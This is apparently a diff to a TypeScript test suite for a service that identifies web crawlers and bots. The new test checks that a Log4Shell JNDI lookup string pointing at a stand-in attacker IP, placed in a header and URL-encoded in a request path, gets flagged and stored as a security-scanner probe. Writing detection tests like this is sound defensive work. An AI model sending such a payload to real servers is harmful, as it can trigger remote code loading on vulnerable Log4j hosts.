@@ -40,6 +40,20 @@ describe('unlisted agents over REST', () => {
     expect(agent.json).toMatchObject({ id: 'unlisted:Fjordcrawler', name: 'Fjordcrawler', type: 'Uncategorized', operator: 'Unknown', url: '', robots_tokens: ['Fjordcrawler'], verification_methods: [] });
   });
 
+  it('a Log4Shell lookup in another header or the path is an attack probe, identified and stored as one', async () => {
+    const { call } = await setup();
+    const browser = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36';
+    const identified = await call('POST', '/agent-identifications', [{ id: 'a', request_headers: { 'User-Agent': browser, 'X-Api-Version': '${jndi:ldap://198.51.100.7/a}' } }]);
+    expect(identified.json[0]).toMatchObject({ id: 'a', result: 'not_verifiable', agent_id: 'probe:log4shell', agent_token: '', agent_type_name: 'Security Scanner' });
+    const posted = await call('POST', '/visits', [
+      { request_path: '/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D', request_method: 'GET', request_headers: { 'User-Agent': browser } },
+      { request_path: '/?q={x}', request_method: 'GET', request_headers: { 'User-Agent': browser, cookie: 'prefs={"a":1}' } },
+    ]);
+    expect(posted.json).toEqual({ accepted: 2, rejected: [] });
+    const read = await call('GET', '/visits?agent=probe%3Alog4shell');
+    expect(read.json.visits.map((v: { request_path: string; agent_type: string }) => [v.request_path, v.agent_type])).toEqual([['/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D', 'Security Scanner']]);
+  });
+
   it('GET /agents/{id} refuses an id no unlisted agent can have', async () => {
     const { call } = await setup();
     for (const id of ['unlisted%3Awww.fjord.example', 'unlisted%3AFjord%2F1.0', 'unlisted%3A']) {
